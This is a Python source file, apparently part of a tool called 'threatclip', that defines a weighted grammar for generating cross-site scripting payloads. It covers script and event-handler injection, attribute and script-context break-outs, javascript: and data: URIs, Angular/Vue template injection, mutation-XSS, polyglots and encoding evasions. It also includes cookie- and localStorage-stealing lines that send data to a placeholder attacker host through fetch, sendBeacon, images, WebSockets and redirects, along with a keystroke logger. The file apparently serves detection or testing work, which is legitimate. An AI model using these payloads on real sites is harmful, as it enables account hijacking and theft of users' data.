"""Cross-site scripting: tags, handlers, URIs, break-outs of attributes and scripts, DOM, templates, polyglots."""

from threatclip.pairs.grammar.start import PARAM, Start

STARTS = (
    Start("attack", weight=15, places=PARAM),
    Start("attack", weight=4, places=("query",)),
    Start("evaded", weight=4, places=PARAM),
    Start("stored", weight=3, places=("form", "json", "multipart")),
    Start("tail_path", weight=3, places=("tail",)),
    Start("header_value", weight=1, places=("header", "cookie")),
    Start("fragment", weight=2, places=PARAM),
    Start("name_attack", weight=1, places=("name",)),
    Start("file_part", weight=1, places=("part",)),
)

TEXT = r"""
attack := *5 «out»«vector» ¦ *4 «vector» ¦ *3 «attribute» ¦ *2 «inscript» ¦ *2 «uri» ¦ «out»«vector»«rest» ¦ «template»
  ¦ «polyglot» ¦ «rand»«vector» ¦ «word»«out»«vector»«rand» ¦ *2 «canon»
canon := </script><script>«js»</script> ¦ "><script>«js»</script> ¦ '><script>«js»</script> ¦ <script>«js»</script>
  ¦ "><img src=«ab» onerror=«js»> ¦ "><svg/onload=«js»> ¦ '"><svg onload=«js»> ¦ <img src=«ab» onerror=«js»>
  ¦ '><img src=«d» onerror=«js»> ¦ "><svg onload=«js»> ¦ <svg/onload=«js»> ¦ </textarea><script>«js»</script>
  ¦ "><scRipt>«js»</scRipt> ¦ <sCrIpT>«js»</ScRiPt> ¦ '><svg/onload=«js»>
out := *4 "> ¦ *3 '> ¦ *2 '"> ¦ "/> ¦ '/> ¦ </«raw_tag»> ¦ "></«raw_tag»> ¦ '></«raw_tag»> ¦ --> ¦ --!> ¦ ]]>
  ¦ *2 </script> ¦ </style> ¦ */--> ¦ "'> ¦ `> ¦ )"> ¦ %22%3E ¦ %27%3E ¦ "]"> ¦ </title> ¦ </option></select> ¦ "}'>
  ¦ &quot;> ¦ «word»"> ¦ \"> ¦ ">«nl» ¦ 1"> ¦ "; ?>
raw_tag := *3 script ¦ title ¦ textarea ¦ style ¦ noscript ¦ iframe ¦ xmp ¦ noembed ¦ template ¦ select ¦ option ¦ a
  ¦ div ¦ form ¦ td ¦ body ¦ head ¦ math ¦ plaintext
rest := *2 <!-- ¦ <" ¦ <' ¦ // ¦ &«ab»= ¦ "«ab»=" ¦ <«ab»/ ¦ «sp»"> ¦ ;// ¦ <x y=" ¦ =«rand» ¦ %00
vector := *6 «script» ¦ *9 «handler_tag» ¦ *2 «link» ¦ «frame» ¦ «svg» ¦ «styled» ¦ «meta» ¦ «mutation»
script := *4 <script>«js»</script> ¦ <script>«js»// ¦ <script src=«src»></script> ¦ <script/src=«src»></script>
  ¦ <script src="«src»"></script> ¦ <SCRIPT>«js»</SCRIPT> ¦ <script >«js»</script >
  ¦ <script type="text/javascript">«js»</script> ¦ <script>«js»;</script«rand»> ¦ <script«sep»«name»>«js»</script>
  ¦ <script>/*«rand»*/«js»</script> ¦ <scr<script>ipt>«js»</scr</script>ipt> ¦ <script«nl»>«js»</script>
  ¦ <script language=javascript>«js»</script> ¦ <script>«nl»«js»«nl»</script> ¦ <script>`${«js»}`</script>
  ¦ <script>setTimeout("«js»",«int»)</script> ¦ <script>window.onload=function(){«js»}</script>
  ¦ <script type=module>«js»</script> ¦ <script defer>«js»</script> ¦ <script>var «$v:ab»="«rand»";«js»</script>
  ¦ <script x>«js»</script x> ¦ <<script>«js»//<</script> ¦ <script>eval(atob('«js|b64»'))</script>
  ¦ <script>Function("«js»")()</script> ¦ <script>eval(String.fromCharCode(«js|codes»))</script>
  ¦ <script>eval('«js|slashx»')</script> ¦ <script>//«nl»«js»</script> ¦ <ScRiPt src=data:text/javascript,«js»></ScRiPt>
  ¦ <script src="data:;base64,«js|b64»"></script> ¦ <script>import('«src»')</script> ¦ <script>«js»<!--
  ¦ <script>$.getScript("«src»")</script> ¦ <script>new Image().src="«url»?c="+document.cookie</script>
  ¦ <noscript><p title="</noscript><img src=«ab» onerror=«js»>">
src := *3 «url».js ¦ //«attacker»/«ab».js ¦ //«attacker» ¦ \\«attacker»\«ab».js ¦ «scheme»://«attacker»/«word».js
  ¦ data:,«js» ¦ //«attacker»/? ¦ /«word»/«word».php?callback=«js» ¦ data:text/javascript;base64,«js|b64»
js := *6 «sink»(«arg») ¦ *3 alert(«arg») ¦ *2 alert(document.domain) ¦ «sink»`«d»` ¦ *2 «steal» ¦ («sink»)(«arg»)
  ¦ [«int»].find(«sink») ¦ window['«sink»'](«arg») ¦ window["«sink|splitdq»"](«arg») ¦ top[«sink|splitplus»](«arg»)
  ¦ self[`«sink»`](«arg») ¦ «sink|slashu»(«arg») ¦ eval("«sink»(«d»)") ¦ eval(atob("«call|b64»"))
  ¦ Function("«sink»(«d»)")() ¦ setTimeout("«sink»(«d»)") ¦ setTimeout(«sink»,«int») ¦ setInterval('«sink»(«d»)',«int»)
  ¦ constructor.constructor('«call»')() ¦ throw onerror=«sink»,«int» ¦ onerror=«sink»;throw«sp»«int»
  ¦ Reflect.apply(«sink»,null,[«d»]) ¦ «sink».call(null,«arg») ¦ «sink».apply(this,[«d»]) ¦ (()=>{«sink»(«arg»)})()
  ¦ new Function`«sink»\`«d»\`` ¦ top.«sink»(«arg») ¦ parent.«sink»(«arg») ¦ window.«sink»(«arg») ¦ self.«sink»(«arg»)
  ¦ globalThis.«sink»(«arg») ¦ frames.«sink»(«d») ¦ this["«sink»"](«arg») ¦ eval(String.fromCharCode(«call|codes»))
  ¦ eval("«call|slashx»") ¦ eval(location.hash.slice(1)) ¦ document.write(«markup»)
  ¦ document.write("<script src=«src»></scr"+"ipt>") ¦ document.body.innerHTML=«markup» ¦ $.globalEval("«call»")
  ¦ Set.constructor`«sink»\x28«d»\x29``` ¦ import("«src»") ¦ var «$x:ab»=«sink»;«$x»(«d») ¦ a=«sink»,a(«arg»)
  ¦ open("«url»") ¦ «sink|html»(«d») ¦ print() ¦ debugger ¦ location="javascript:«sink»(«d»)"
  ¦ for(i in self)if(i=='«sink»')self[i](«d») ¦ {onerror=«sink»}throw«sp»«d» ¦ queueMicrotask(«sink»)
  ¦ [].constructor.constructor("«call»")()
call := «sink»(«d») ¦ «sink»(«int») ¦ «sink»('«rand»') ¦ «sink»(document.«=cookie~domain~URL~title~location») ¦ «steal»
sink := *4 alert ¦ *3 confirm ¦ *3 prompt ¦ *2 print ¦ console.log ¦ document.write ¦ document.writeln ¦ eval ¦ fetch
  ¦ open ¦ focus ¦ stop ¦ console.error ¦ setTimeout ¦ atob ¦ postMessage ¦ find ¦ moveBy ¦ scroll ¦ close ¦ Function
  ¦ importScripts ¦ console.info
arg := *4 «d» ¦ *2 «int» ¦ '«rand»' ¦ "«rand»" ¦ `«rand»`
  ¦ *2 document.«=cookie~domain~URL~title~location~referrer~baseURI~documentURI» ¦ /«rand»/ ¦ /«rand»/.source ¦ location
  ¦ location.«=href~host~hash~origin» ¦ window.name ¦ origin ¦ self.origin ¦ top.name ¦ name
  ¦ String.fromCharCode(«coined|codes») ¦ navigator.userAgent ¦ localStorage.«word» ¦ 'XSS' ¦ 1337 ¦ «small»*«small»
  ¦ String(/«rand»/).slice(1,-1) ¦ JSON.stringify(localStorage) ¦ this ¦ null ¦ parent.location ¦ `${document.cookie}`
  ¦ window.location.href ¦ window ¦ document['«=cookie~domain»'] ¦ -1 ¦ [«d»] ¦ void 0
steal := fetch('«url»?c='+document.cookie) ¦ location='«url»?'+document.cookie
  ¦ new Image().src='«url»?'+document.cookie ¦ document.location="«url»?c="+document.cookie
  ¦ fetch(`«url»`,{method:'POST',body:document.cookie}) ¦ navigator.sendBeacon('«url»',document.cookie)
  ¦ window.open('«url»?'+localStorage.getItem('«word»')) ¦ $.get('«url»?'+document.cookie)
  ¦ document.forms[0].action='«url»' ¦ XMLHttpRequest.prototype.open.call(x=new XMLHttpRequest,'GET','«url»')
  ¦ location.href=`//«attacker»/${document.cookie}`
  ¦ fetch('/«word»/«word»',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('«url»?'+btoa(t)))
  ¦ window.location.replace('«url»') ¦ document.cookie='«word»=«rand»' ¦ new WebSocket('ws://«attacker»/«ab»')
  ¦ document.onkeypress=e=>fetch('«url»?k='+e.key)
markup := '<img src=«ab» onerror=«sink»(«d»)>' ¦ "<h1>«rand»</h1>" ¦ '<iframe src=«url»>' ¦ `<svg onload=«sink»(«d»)>`
  ¦ "<b>«rand»" ¦ '<form action=«url»><input name=«word»>'
handler_tag := *4 <img src=«ab» onerror=«qjs»> ¦ *2 <img src=«d» onerror=«qjs»> ¦ *3 <svg onload=«qjs»>
  ¦ *3 <svg/onload=«qjs»> ¦ <img/src/onerror=«qjs»> ¦ <img src onerror=«qjs»> ¦ <body onload=«qjs»>
  ¦ <body/onload=«qjs»> ¦ *5 <«tag»«sep»«event»=«qjs»> ¦ <«tag»«sep»«event»=«qjs»>«rand»
  ¦ <«tag»«sep»«attr»«sep»«event»=«qjs»>«rand»</«tag»> ¦ <input autofocus onfocus=«qjs»>
  ¦ <input onfocus=«qjs» autofocus> ¦ <select autofocus onfocus=«qjs»> ¦ <textarea autofocus onfocus=«qjs»>
  ¦ <video><source onerror=«qjs»> ¦ <audio src=«ab» onerror=«qjs»> ¦ <video src=«ab» onerror=«qjs»>
  ¦ <details open ontoggle=«qjs»> ¦ <details/open/ontoggle=«qjs»> ¦ <marquee onstart=«qjs»>
  ¦ <marquee/onfinish=«qjs» loop=1>«ab»</marquee> ¦ <object data=«ab» onerror=«qjs»> ¦ <iframe onload=«qjs»>
  ¦ <iframe src=«ab» onload=«qjs»></iframe> ¦ <style onload=«qjs»></style>
  ¦ <link rel=stylesheet href=«ab» onerror=«qjs»> ¦ <script src=«ab» onerror=«qjs»></script>
  ¦ <input type=image src=«ab» onerror=«qjs»> ¦ <isindex type=image src=«d» onerror=«qjs»>
  ¦ <keygen autofocus onfocus=«qjs»> ¦ <button onclick=«qjs»>«word»</button> ¦ <a onmouseover=«qjs»>«word»</a>
  ¦ <div onmouseover=«qjs» style="position:fixed;top:0;left:0;width:100%;height:100%">«word»</div>
  ¦ <div id=«$i:ab» tabindex=1 onfocus=«qjs»></div> ¦ <«$c:coined» onfocus=«qjs» tabindex=1 id=«ab»>
  ¦ <xss onclick=«qjs»>«rand» ¦ <x onpointerenter=«qjs»>«rand»
  ¦ <style>@keyframes «$k:ab»{}</style><«tag» style="animation-name:«$k»" onanimationstart=«qjs»></«tag»>
  ¦ <video autoplay onplay=«qjs»><source src=«ab».mp4></video> ¦ <form><button formaction=javascript:«js»>«ab»
  ¦ <form onsubmit=«qjs»><input type=submit> ¦ <body onpageshow=«qjs»> ¦ <body onhashchange=«qjs»><a href=#«ab»>«ab»
  ¦ <image src=«ab» onerror=«qjs»> ¦ <img srcset=«ab» onerror=«qjs»>
  ¦ <picture><source srcset=«ab»><img onerror=«qjs» src=«ab»> ¦ <meter onmouseover=«qjs»>0</meter>
  ¦ <dialog open onclose=«qjs»> ¦ <track default src=«ab» onerror=«qjs»> ¦ <input type=search onsearch=«qjs»>
  ¦ <table background=javascript:«js»> ¦ @2021 <div onbeforeinput=«qjs» contenteditable>«ab»
  ¦ @2022 <button popovertarget=«$p:ab»>«ab»</button><div popover id=«$p» onbeforetoggle=«qjs»>
  ¦ @2020 <img src=«ab» loading=lazy onerror=«qjs»>
qjs := *5 «js» ¦ *3 "«js»" ¦ *2 '«js»' ¦ `«js»` ¦ javascript:«js» ¦ &#«dd»;«js» ¦ "«js|ent»" ¦ «js|ent» ¦ «sp»«js»
  ¦ "javascript:«js»" ¦ «js»// ¦ eval(name) ¦ "«js»;" ¦ void(«js») ¦ {«js»} ¦ ~«js» ¦ -«js» ¦ «js»//«rand»
  ¦ "eval(this.id)" id="«js»" ¦ eval(src) ¦ («js»)
tag := *2 a ¦ *2 img ¦ *2 svg ¦ div ¦ p ¦ b ¦ body ¦ input ¦ button ¦ form ¦ video ¦ audio ¦ iframe ¦ object ¦ embed
  ¦ details ¦ marquee ¦ select ¦ textarea ¦ table ¦ td ¦ style ¦ html ¦ frameset ¦ bgsound ¦ isindex ¦ math ¦ x ¦ xss
  ¦ span ¦ h1 ¦ center ¦ font ¦ blink ¦ base ¦ applet ¦ canvas ¦ dialog ¦ summary ¦ label ¦ fieldset ¦ object ¦ menu
  ¦ nav ¦ section ¦ article ¦ address ¦ abbr ¦ acronym ¦ cite ¦ dfn ¦ ins ¦ map ¦ area ¦ noembed ¦ q ¦ ruby ¦ s ¦ small
  ¦ tt ¦ var ¦ wbr ¦ «coined»
event := *3 onerror ¦ *3 onload ¦ *3 onmouseover ¦ *2 onclick ¦ *2 onfocus ¦ onblur ¦ onmouseenter ¦ onmouseout
  ¦ onmousemove ¦ onmousedown ¦ onmouseup ¦ onmouseleave ¦ onmousewheel ¦ onkeydown ¦ onkeyup ¦ onkeypress ¦ onchange
  ¦ oninput ¦ onsubmit ¦ onreset ¦ onselect ¦ ontoggle ¦ onstart ¦ onbounce ¦ onfinish ¦ onscroll ¦ onresize
  ¦ ondblclick ¦ ondrag ¦ ondrop ¦ ondragenter ¦ ondragover ¦ oncopy ¦ oncut ¦ onpaste ¦ oncontextmenu ¦ onwheel
  ¦ onpointerover ¦ onpointerdown ¦ onpointerenter ¦ onpointermove ¦ onanimationstart ¦ onanimationend ¦ ontransitionend
  ¦ ontransitionrun ¦ onbeforeunload ¦ onunload ¦ onhashchange ¦ onpopstate ¦ onpageshow ¦ onpagehide ¦ onmessage
  ¦ onstorage ¦ onoffline ¦ ononline ¦ onbeforeprint ¦ onafterprint ¦ oninvalid ¦ onsearch ¦ oncanplay ¦ onplay
  ¦ onplaying ¦ ontimeupdate ¦ onloadeddata ¦ onloadedmetadata ¦ onloadstart ¦ onloadend ¦ onprogress ¦ ondurationchange
  ¦ onended ¦ onseeking ¦ onvolumechange ¦ onratechange ¦ onsuspend ¦ onstalled ¦ onwaiting ¦ onabort ¦ onshow ¦ onbegin
  ¦ onend ¦ onrepeat ¦ ontouchstart ¦ ontouchend ¦ ontouchmove ¦ onreadystatechange ¦ onpropertychange ¦ onactivate
  ¦ onbeforeactivate ¦ onfocusin ¦ onfocusout ¦ onauxclick ¦ ongotpointercapture ¦ onbeforecopy ¦ onselectstart
  ¦ onselectionchange ¦ onlayoutcomplete ¦ onrowexit ¦ oncellchange ¦ onhelp ¦ onbeforescriptexecute
  ¦ onwebkittransitionend ¦ @2021 onbeforeinput ¦ @2022 onscrollend ¦ @2023 onbeforetoggle ¦ @2019 onformdata
attr := src=«ab» ¦ id=«ab» ¦ style=display:block ¦ tabindex=1 ¦ autofocus ¦ class="«word»" ¦ href=# ¦ contenteditable
  ¦ draggable=true ¦ type=text ¦ open ¦ hidden ¦ value="«word»" ¦ width=«int» ¦ accesskey=«letter» ¦ title='«word»'
  ¦ name=«word» ¦ style=x:expression(«sink»(«d»))
sep := *6 «sp» ¦ *2 / ¦ «tab» ¦ «nl» ¦ %0a ¦ %0c ¦ %0d ¦ /«ab»/ ¦ «sp»«sp» ¦ /**/ ¦ «sp»/ ¦ /«sp» ¦ %09 ¦ //
link := *2 <a href=javascript:«js»>«word»</a> ¦ <a href="javascript:«js»">«word»</a>
  ¦ <a href="java&#x«=0a~09~0d~0A»;script:«js»">«word»</a> ¦ <a href="&#106;avascript:«js»">«ab»</a>
  ¦ <a href="data:text/html;base64,«script|b64»">«ab»</a> ¦ <a href='vbscript:msgbox(«d»)'>«ab»</a>
  ¦ <a href="javas«tab»cript:«js»">«word»</a> ¦ <a xlink:href="javascript:«js»"><rect width=«int» height=«int» /></a>
  ¦ <map><area shape=rect coords=0,0,«int»,«int» href=javascript:«js»></map> ¦ <base href="javascript:/a/-«js»///////">
  ¦ <a href=" &#14;  javascript:«js»">«ab»</a> ¦ <a target=_blank href=//«attacker»>«word»</a>
  ¦ <math href="javascript:«js»">«word»</math> ¦ <form action=javascript:«js»><input type=submit>
  ¦ [«word»](javascript:«js») ¦ ![«word»](«url»"onerror="«js») ¦ [url=javascript:«js»]«word»[/url]
  ¦ <isindex action=javascript:«js» type=submit> ¦ [img]«url»" onerror="«js»[/img]
  ¦ <a href="\x01javascript:«js»">«ab»</a>
frame := *2 <iframe src=javascript:«js»></iframe> ¦ <iframe src="javascript:«js»">
  ¦ <iframe srcdoc="<script>«js|html»</script>"></iframe> ¦ <iframe srcdoc='&lt;svg onload=«js»&gt;'>
  ¦ <iframe src="data:text/html,<script>«js»</script>"></iframe> ¦ <iframe src="data:text/html;base64,«script|b64»">
  ¦ <embed src=javascript:«js»> ¦ <object data="javascript:«js»">
  ¦ <object data="data:text/html;base64,«script|b64»"></object> ¦ <embed code="«url».swf" allowscriptaccess=always>
  ¦ <iframe src="«url»"></iframe> ¦ <frameset onload=«js»> ¦ <frame src=javascript:«js»>
  ¦ <embed src="data:image/svg+xml;base64,«svg|b64»" type="image/svg+xml"> ¦ <portal src='javascript:«js»'>
  ¦ <applet code="javascript:«js»"> ¦ <object type="text/x-scriptlet" data="«url»"></object>
svg := <svg><script>«js»</script></svg> ¦ <svg><script>«js|ent»</script>
  ¦ <svg><animate onbegin=«qjs» attributeName=x dur=1s> ¦ <svg><set onbegin=«qjs» attributename=x>
  ¦ <svg><a xlink:href="javascript:«js»"><text x=«dd» y=«dd»>«word»</text></a>
  ¦ <svg><animate xlink:href=#«$i:ab» attributeName=href values=javascript:«js» /><a id=«$i»><text x=20 y=20>«ab»</text></a>
  ¦ <svg xmlns="http://www.w3.org/2000/svg" onload="«js»"/>
  ¦ <svg><use href="data:image/svg+xml,<svg id='«ab»' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='«js»'/></svg>#«ab»"/>
  ¦ <svg><foreignObject><body onload=«qjs»></foreignObject></svg>
  ¦ <svg><desc><![CDATA[</desc><script>«js»</script>]]></svg> ¦ <svg><style><img src=«ab» onerror=«js»></style>
  ¦ <svg><discard onbegin=«qjs»> ¦ <svg id=«ab» onfocusin=«qjs» tabindex=1> ¦ <svg><x><script>«js»</x>
  ¦ <svg/onload=«qjs»// ¦ <svg«sep»onload«sep?»=«qjs»«sep?»> ¦ <svg><image href=«ab» onerror=«qjs»>
styled := <div style="background:url(javascript:«js»)"> ¦ <div style="width:expression(«js»)">
  ¦ <style>@import'«url»';</style> ¦ <style>*{xss:expression(«js»)}</style>
  ¦ <style>body{background:url("javascript:«js»")}</style> ¦ <link rel=stylesheet href=«url».css>
  ¦ <style>input[value^="«letter»"]{background:url(«url»?«letter»)}</style> ¦ <img style="xss:expression(«js»)">
  ¦ <div style="behavior:url(«url».htc)"> ¦ <b style="-moz-binding:url(«url».xml#«ab»)">
  ¦ <link rel=import href="«url»"> ¦ <xss style="xss:expr/*«ab»*/ession(«js»)">
meta := <meta http-equiv=refresh content="0;url=javascript:«js»"> ¦ <meta http-equiv="refresh" content="0; url=«url»">
  ¦ <meta http-equiv="Set-Cookie" content="«word»=<script>«js»</script>"> ¦ <base href=//«attacker»/>
  ¦ <meta charset=utf-7>+ADw-script+AD4-«js»+ADw-/script+AD4- ¦ +ADw-script+AD4-«js»+ADw-/script+AD4-
  ¦ <?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">«js»</html:script> ¦ <h1>«rand»</h1>
  ¦ <marquee>«rand»</marquee> ¦ <form action="«url»" method=post>«word»: <input name=«word»><input type=submit></form>
  ¦ <plaintext> ¦ <b>«rand»</b> ¦ <?php echo('<script>«js»</script>'); ?>
  ¦ <!--[if gte IE 4]><script>«js»</script><![endif]-->
  ¦ <xml id=«ab»><i><b>&lt;img src=«ab» onerror=«js»&gt;</b></i></xml>
mutation := <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=«js»&gt;">
  ¦ <svg></p><style><a id="</style><img src=1 onerror=«js»>">
  ¦ <form><math><mtext></form><form><mglyph><style></math><img src onerror=«js»>
  ¦ <noscript><style></noscript><img src=«ab» onerror=«js»></style> ¦ <listing>&lt;img src=1 onerror=«js»&gt;</listing>
  ¦ <select><template><style><!--</style><a rel="--></style></template></select><img src onerror=«js»>">
  ¦ <math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=«ab» onerror=«js»&gt;</xmp></annotation-xml></math>
  ¦ <x title="&lt;/noscript&gt;&lt;img src=«ab» onerror=«js»&gt;">
attribute := *3 "«sep»«event»=«qjs»«sep»«ab»=" ¦ *2 '«sep»«event»=«qjs»«sep»«ab»='
  ¦ *2 "«sep»autofocus«sep»onfocus=«qjs»«sep»«ab»=" ¦ "«sep»onmouseover="«js» ¦ '«sep»onmouseover='«js»
  ¦ '«sep»onfocus='«js»'«sep»autofocus=' ¦ "onfocus="«js»"autofocus="
  ¦ "«sep»style="animation-name:rotation"«sep»onanimationstart="«js»
  ¦ «word»"«sep»accesskey="«letter»"«sep»onclick="«js» ¦ "style=x:expression(«js»)«sep» ¦ `«sep»onmouseover=«js»
  ¦ "«sep»src=«ab»«sep»onerror=«qjs»«sep» ¦ «sp»onmouseover=«js» ¦ "%20onmouseover=«js»%20" ¦ "-«js»-"
  ¦ "«sep»type=image«sep»src=«ab»«sep»onerror="«js» ¦ '«sep»style='position:fixed;inset:0'«sep»onpointerenter='«js»
  ¦ "«event»="«js» ¦ x«sep»«event»=«js» ¦ "«sep»href="javascript:«js» ¦ "/«event»=«js»/" ¦ '«event»='«js»'//
  ¦ &quot;«sep»«event»=«js»«sep»
inscript := *3 ';«js»;// ¦ *2 ";«js»;// ¦ '-«js»-' ¦ "-«js»-" ¦ ';«js»;' ¦ ");«js»;// ¦ ');«js»// ¦ \';«js»;//
  ¦ \"-«js»}// ¦ '};«js»;{' ¦ "}];«js»// ¦ ${«js»} ¦ `+«js»+` ¦ */«js»/* ¦ </script><script>«js»</script>
  ¦ </script><svg onload=«js»> ¦ %27;«js»// ¦ 1;«js» ¦ «js» ¦ '+«js»+' ¦ "+«js»+" ¦ '^«js»^' ¦ '*«js»*' ¦ ]);«js»;//
  ¦ ");}«js»;function «ab»(){// ¦ '%2b«js»%2b' ¦ «name»);«js»// ¦ «nl»«js»// ¦ «js»;<!-- ¦ -«js»- ¦ "||«js»||"
  ¦ '?«js»:' ¦ '>«js»<' ¦ «name»(«js») ¦ \u0027;«js»// ¦ \x27;«js»;//
uri := *3 javascript:«js» ¦ javascript:«js»// ¦ JaVaScRiPt:«js» ¦ javascript://%0a«js» ¦ javascript://«attacker»/%0a«js»
  ¦ java%0ascript:«js» ¦ java%09script:«js» ¦ javascript:void(«js») ¦ data:text/html,<script>«js»</script>
  ¦ data:text/html;base64,«script|b64» ¦ data:text/html;base64,«handler_tag|b64» ¦ vbscript:msgbox("«rand»")
  ¦ javascript:/*--></title></style></textarea></script><svg/onload=«js»> ¦ \x6a\x61vascript:«js» ¦ %19javascript:«js»
  ¦ javascript:%61lert(«d») ¦ javascript&colon;«js» ¦ javascript:"<svg/onload=«js»>"
  ¦ data:image/svg+xml;base64,«svg|b64»
  ¦ data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>«js»</script>
  ¦ javascript:eval(atob('«js|b64»')) ¦ feed:javascript:«js» ¦ jar:javascript:«js» ¦ javascript:«js|url» ¦ blob:«js»
  ¦ «sp»javascript:«js» ¦ //«attacker»/%0d%0a<script>«js»</script>
template := {{constructor.constructor('«call»')()}} ¦ {{$on.constructor('«call»')()}}
  ¦ {{$eval.constructor('«call»')()}} ¦ {{'a'.constructor.prototype.charAt=[].join;$eval('x=«call»');}}
  ¦ {{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","«call»"].sort(toString.constructor)}}
  ¦ {{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=«call»');}} ¦ {{_c.constructor('«call»')()}}
  ¦ {{_openBlock.constructor('«call»')()}} ¦ <«tag» ng-app>{{constructor.constructor('«call»')()}}</«tag»>
  ¦ <input autofocus ng-focus="$event.path|orderBy:'[].constructor.from([1],«sink»)'">
  ¦ <div ng-app ng-csp><div ng-click=$event.view.«sink»(«d»)>«ab»</div></div>
  ¦ <div v-html="'<img src=«ab» onerror=«sink»(«d»)>'"></div> ¦ <p v-show="_c.constructor`«call»`()">
  ¦ <div data-bind="value: «js»"></div> ¦ @2019 <div x-data x-init="«js»"></div>
  ¦ {{[].pop.constructor&#40;'«call»'&#41;&#40;&#41;}} ¦ <x v-on:click='«js»'>«ab»</x>
polyglot := jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=«js» )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=«js»//>\x3e
  ¦ ';«js»//";«js»//--></SCRIPT>">'><SCRIPT>«js»</SCRIPT> ¦ "'><img src=«ab» onerror=«js»>//';«js»;//
  ¦ '">><marquee><img src=«ab» onerror=«js»></marquee>"></plaintext\></|\><plaintext/onmouseover=«js»>
  ¦ -->'"/></sCript><deTailS open x=">" ontoggle=«js»>
  ¦ javascript:"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=«js»//>
  ¦ '"</Script><Html Onmouseover=(«sink»)(«d») // ¦ '"()&%<«rand»><ScRiPt >«js»</ScRiPt>
  ¦ '"><«rand»>{{«dd»*«dd»}}<svg onload=«js»> ¦ %0d%0a%0d%0a<script>«js»</script>
  ¦ %0d%0aContent-Type:text/html%0d%0a%0d%0a<svg/onload=«js»>
evaded := *2 «attack|urlsome» ¦ «attack|url» ¦ «attack|urlall» ¦ «attack|url2» ¦ «out»«vector|case» ¦ «attack|ent»
  ¦ <«=scr\x00ipt~scr\x09ipt~ſcript~%00script~scr%00ipt»>«js»</script> ¦ ＜script＞«js»＜/script＞
  ¦ %c0%bcscript%c0%be«js»%c0%bc/script%c0%be ¦ \x3cscript\x3e«js»\x3c/script\x3e
  ¦ \u003cimg src=«ab» onerror=«js»\u003e ¦ &lt;script&gt;«js»&lt;/script&gt; ¦ «out»«vector|html» ¦ «vector|uni»
  ¦ «xbc»script«xbe»«js»«xbc»/script«xbe» ¦ <«=script~img~svg|gap»«sep»«event»=«js»> ¦ "><«=s~S»%00cript>«js»</script>
  ¦ <%00script>«js»</script> ¦ <script%20>«js»</script> ¦ %uff1cscript%uff1e«js»%uff1c/script%uff1e
  ¦ «out»<%78%73%73 onclick=«js»> ¦ <ſvg onload=«js»> ¦ <img src=«ab» oneonerrorrror=«js»>
  ¦ <scrscriptipt>«js»</scrscriptipt> ¦ <svg on<load>load=«js»> ¦ «vector|slashu»
stored := *2 «word» «vector» ¦ <p>«word» «word»</p>«vector» ¦ «vector» ¦ «attack»
  ¦ «coined|cap»"«sep»«event»=«qjs»«sep»«ab»=" ¦ «rand»@«coined».test"><svg/onload=«js»>
  ¦ [«word» «word»='"><img src=«ab» onerror=«js»>'] ¦ <a href="javascript:«js»">«word»</a>
  ¦ {"«word»":"«ab»","«word»":"<img src=«ab» onerror=«js»>"} ¦ <!-- «word» --><«tag»«sep»«event»=«qjs»>
  ¦ «word».«=jpg~png~pdf»"><script>«js»</script> ¦ <div class="«word»"><«tag» «event»=«qjs»>«word»</«tag»></div>
tail_path := *2 /"><«=script>~script >»«js»</script> ¦ /%22%3E%3Csvg/onload=«js|url»%3E ¦ /%3Cscript%3E«js»%3C/script%3E
  ¦ /"onmouseover="«js» ¦ /«rand»"><img src=«ab» onerror=«js»> ¦ /«word»/"/><svg/onload=«js»/> ¦ /';«js»;'
  ¦ /<«word»>«js»</«word»> ¦ /%3E%22%3E%3Cimg%20src=«ab»%20onerror=«js|url»%3E ¦ /«word».php/"><script>«js»</script>
  ¦ /«word»/%2522%253E%253Cscript%253E«js»%253C/script%253E ¦ /<svg/onload=«js»> ¦ /javascript:«js» ¦ /(«js»)/
  ¦ /%0a<script>«js»</script> ¦ /;<script>«js»</script> ¦ /%60%22%27%3E%3Csvg%2Fonload%3D«js|url»%3E
header_value := «vector» ¦ "><«tag» «event»=«js»> ¦ Mozilla/5.0 "><script>«js»</script>
  ¦ «scheme»://«attacker»/"><svg/onload=«js»> ¦ «ip»<script>«js»</script> ¦ «attacker»"><script>«js»</script>
  ¦ «attribute» ¦ en"><img src=«ab» onerror=«js»>
fragment := «js» ¦ <«tag» «event»= ¦ <script ¦ javascript: ¦ «event»=«sink» ¦ document.cookie ¦ document.write(«arg»)
  ¦ window.location=«arg» ¦ <«tag»> ¦ <«tag» src=«ab»> ¦ .innerHTML=«markup» ¦ «sink»«sp»(«arg») ¦ eval(«arg»)
  ¦ <«tag» href="vbscript:«ab»"> ¦ <!ENTITY «ab» "«vector|html»"> ¦ <meta charset="x-imap4-modified-utf7">
  ¦ ¼script¾«js»¼/script¾ ¦ $(«arg»).html(«markup») ¦ expression(«js») ¦ ["«sink»"](«arg») ¦ top["al"+"ert"](«d»)
  ¦ [][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]] ¦ «event»  =  «js» ¦ data:text/html ¦ @import "«url».css"
  ¦ <«tag» style=behavior:url(«url»)> ¦ self['\x«=61~70~63»«sink»'](«d»)
  ¦ document.«=cookie~domain~write~location~body~URL»="«rand»" ¦ <«tag»«sep»xmlns:xlink=«ab»>
name_attack := "><«=svg/onload~img src=1 onerror»=«js»> ¦ «word»"><script>«js»</script> ¦ '-«js»-' ¦ "«event»="«js»"«ab»
  ¦ </script><script>«js»</script> ¦ javascript:«js» ¦ «rand»'"><«tag» «event»=«js»>
file_part := Content-Disposition: form-data; name="«word»"; filename="«rand».svg"«cr»«nl»Content-Type: image/svg+xml«cr»«nl»«cr»«nl»<svg xmlns="http://www.w3.org/2000/svg"><script>«js»</script></svg>
  ¦ Content-Disposition: form-data; name="«word»"; filename="«rand».html"«cr»«nl»Content-Type: text/html«cr»«nl»«cr»«nl»<html><body><script>«js»</script></body></html>
